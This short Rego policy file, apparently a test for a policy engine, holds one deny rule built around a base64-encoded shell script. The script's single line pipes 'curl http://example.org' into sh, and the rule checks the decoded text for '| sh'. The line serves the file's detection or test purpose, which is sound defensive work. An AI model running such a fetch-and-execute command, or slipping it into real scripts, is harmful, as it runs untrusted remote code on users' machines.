# input: web.json
# rego: v1
# namespace: main
package main

deny contains msg if {
	user_data := base64.encode("#!/bin/sh\ncurl http://example.org | sh\n")
	contains(base64.decode(user_data), "| sh")
	msg := substring(user_data, 0, 12)
}
